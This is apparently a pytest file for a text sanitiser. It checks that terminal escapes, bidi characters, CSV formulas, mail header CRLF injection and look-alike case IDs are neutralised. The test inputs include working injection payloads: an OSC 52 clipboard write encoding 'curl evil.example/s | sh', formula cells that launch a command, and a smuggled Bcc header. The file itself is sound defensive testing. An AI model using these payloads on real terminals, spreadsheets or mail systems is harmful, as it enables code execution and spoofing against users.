"""The display sanitiser, look-alike IDs, CSV cells, reply headers and the log file."""

from __future__ import annotations

import logging
import stat
from pathlib import Path
from typing import Any

import pytest

from uq.lookalike import id_problems, lookalike_groups, show_id, skeleton
from uq.textsafe import clip, csv_cell, safe_block, safe_line, safe_mail_header

# Every escape family a terminal acts on, and the markup Textual/Rich would parse.
HOSTILE = (
    "\x1b[2J\x1b[H"  # CSI: clear screen, home
    "\x1b]0;pwned\x07"  # OSC 0: window title, BEL-terminated
    "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUvcyB8IHNo\x1b\\"  # OSC 52: clipboard
    "\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\"  # OSC 8: hyperlink
    "\x1bP+q544e\x1b\\"  # DCS
    "\x9b31m"  # C1 CSI
    "\x07\x08\rX"  # BEL, backspace, bare CR
    "[/] [@click=app.quit]x[/] [link=https://evil.example]y[/link]"
    "\u202eevil\u202c \u200bzw\u2066i\u2069"
)


def terminal_safe(text: str) -> bool:
    """No C0 but LF, no DEL, no C1, no bidi/zero-width format character."""
    import unicodedata

    return all(c == "\n" or unicodedata.category(c) not in ("Cc", "Cf", "Zl", "Zp", "Cs") for c in text)


@pytest.mark.parametrize("fn", [safe_line, safe_block])
def test_every_escape_family_becomes_visible(fn: Any) -> None:
    out = fn(HOSTILE)
    assert terminal_safe(out)
    assert "\u241b[2J" in out and "\u241b]52;c;" in out and "\u241bP+q" in out, "ESC shown as ␛, the rest kept"
    assert "\\x9b31m" in out and "\u2407" in out and "\u2408" in out and "\u240dX" in out
    assert "⟨RLO⟩evil⟨PDF⟩" in out and "⟨ZWSP⟩zw" in out and "⟨LRI⟩i⟨PDI⟩" in out
    assert "[/] [@click=app.quit]" in out, "markup is text, left for the widgets to draw as text"


def test_line_and_block_differ_only_in_line_breaks() -> None:
    assert safe_line("a\r\nb\nc\td") == "a\u2424b\u2424c       d"
    assert safe_block("a\r\nb\nc\td") == "a\nb\nc       d"
    assert safe_block("keep\rline") == "keep\u240dline", "a lone CR cannot overwrite the line"


def test_clean_text_is_returned_as_is() -> None:
    text = "UM-2026-004512 · Café ✓ 日本"
    assert safe_line(text) is text and safe_block(text) is text


def test_undecodable_bytes_show_as_replacement() -> None:
    text = b"ok \xff\x9b".decode("utf-8", "surrogateescape")
    assert safe_line(text) == "ok \ufffd\ufffd"
    assert safe_line(text).encode("utf-8")


def test_clip_marks_what_was_cut() -> None:
    assert clip("x" * 10, 20) == "x" * 10
    assert clip("x" * 30, 20) == "x" * 20 + "… [10 more characters]"


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        ("=HYPERLINK(\"http://evil\")", "'=HYPERLINK(\"http://evil\")"),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'       =1"),
        ("\r=1", "'\u240d=1"),
        ("UM-1", "UM-1"),
        (12.5, 12.5),
        (-3.0, -3.0),
        (None, None),
    ],
)
def test_csv_cells_cannot_be_formulas(cell: object, shown: object) -> None:
    assert csv_cell(cell) == shown


def test_mail_header_is_one_clean_line() -> None:
    out = safe_mail_header("Re: case\r\n\x1b[31mBcc: x@evil.example\x00 \u202e")
    assert "\r" not in out and "\n" not in out and "\x1b" not in out and "\x00" not in out
    assert out == "Re: case ␛[31mBcc: x@evil.example␀ ⟨RLO⟩"


# ------------------------------------------------------------------ identifiers


def test_plain_ids_have_no_problem_and_draw_as_is() -> None:
    assert id_problems("UM-2026-004512") == []
    assert show_id("UM-2026-004512") == "UM-2026-004512"


@pytest.mark.parametrize(
    ("case_id", "needle", "shown"),
    [
        ("UM-2026-\u200b004512", "invisible", "UM-2026-⟨ZWSP⟩004512"),
        ("\u202eUM-2026-004512", "invisible", "⟨RLO⟩UM-2026-004512"),
        ("UM-2026-\x1b[2J", "control", "UM-2026-␛[2J"),
        ("U\u041c-2026-004512", "mixes scripts", "U⟨cyrillic \u041c⟩-2026-004512"),
        ("\u0423\u041c-2026", "cyrillic letters that look Latin", "⟨cyrillic \u0423⟩⟨cyrillic \u041c⟩-2026"),
    ],
)
def test_tricky_ids_are_flagged_and_marked(case_id: str, needle: str, shown: str) -> None:
    problems = id_problems(case_id)
    assert problems and needle in problems[0]
    assert show_id(case_id) == shown
    assert terminal_safe(problems[0])


def test_lookalike_ids_are_flagged_on_both_sides() -> None:
    cases = [
        (1, "UM-2026-004512"),
        (2, "U\u041c-2026-004512"),  # Cyrillic EM
        (3, "UM-2026-\u200b004512"),  # zero-width space
        (4, "UM-2026-OO4512"),  # letter O for zero
        (5, "UM-2026-000001"),
        (6, "UM-2026-000001"),  # the same ID twice is one thread, not a look-alike
    ]
    groups = lookalike_groups(cases)
    assert set(groups) == {1, 2, 3, 4}
    assert {pk for pk, _ in groups[1]} == {2, 3, 4}
    assert skeleton("\uff35\uff2d-2026") == skeleton("UM-2026"), "NFKC folds fullwidth forms"


# ------------------------------------------------------------------ the log file


def test_log_file_is_private_and_withholds_library_text(uq_home: Any) -> None:
    from uq.logfile import log_path, setup_logging

    path = setup_logging("INFO")
    try:
        assert path == log_path() and path.parent.name == "state"
        logging.getLogger("uq.review").info("case %d opened", 7)
        logging.getLogger("pypdf._reader").warning("bad xref near b'Jane Q. Sample 03/04/1961'")
        try:
            raise ValueError("member Jane Q. Sample")
        except ValueError:
            logging.getLogger("uq.sync").exception("sync fault")
        import warnings

        warnings.warn("Jane Q. Sample in a warning", UserWarning, stacklevel=1)
        text = path.read_text()
        assert "case 7 opened" in text
        assert "pypdf._reader: (message withheld)" in text
        assert "sync fault [ValueError]" in text
        assert "Jane" not in text and "Traceback" not in text
        assert stat.S_IMODE(path.stat().st_mode) == 0o600
    finally:
        _drop_handler()


def test_log_level_comes_from_config_and_is_checked(uq_home: Any) -> None:
    from uq.errors import ConfigError
    from uq.logfile import setup_logging

    with pytest.raises(ConfigError, match=r"ui\.log_level"):
        setup_logging("chatty")
    path = setup_logging("WARNING")
    try:
        logging.getLogger("uq.review").info("case %d opened", 8)
        logging.getLogger("uq.review").warning("case %d odd", 9)
        text = Path(path).read_text()
        assert "case 8" not in text and "case 9 odd" in text
    finally:
        _drop_handler()


def _drop_handler() -> None:
    root = logging.getLogger()
    for h in list(root.handlers):
        if type(h).__name__ == "_PrivateRotatingFile":
            root.removeHandler(h)
            h.close()
    logging.captureWarnings(False)


def test_safe_lines_fast_path_matches_the_general_one() -> None:
    from uq.textsafe import safe_lines

    clean = "From: a\r\nSubject: b\tc\r\n\r\nbody " + "x" * 50 + "\r\n"
    assert list(safe_lines(clean, 200)) == safe_block(clean).split("\n")
    assert safe_lines(clean, 20)[3] == "body " + "x" * 15 + "… [35 more characters]"
    dirty = "a\r\nb\x1b[2J\rc\r\n" + "line\r\n" * 100_000  # big and dirty: the chunked path
    lines = safe_lines(dirty, 200)
    assert lines[:2] == ["a", "b␛[2J␍c"] and len(lines) == 100_003
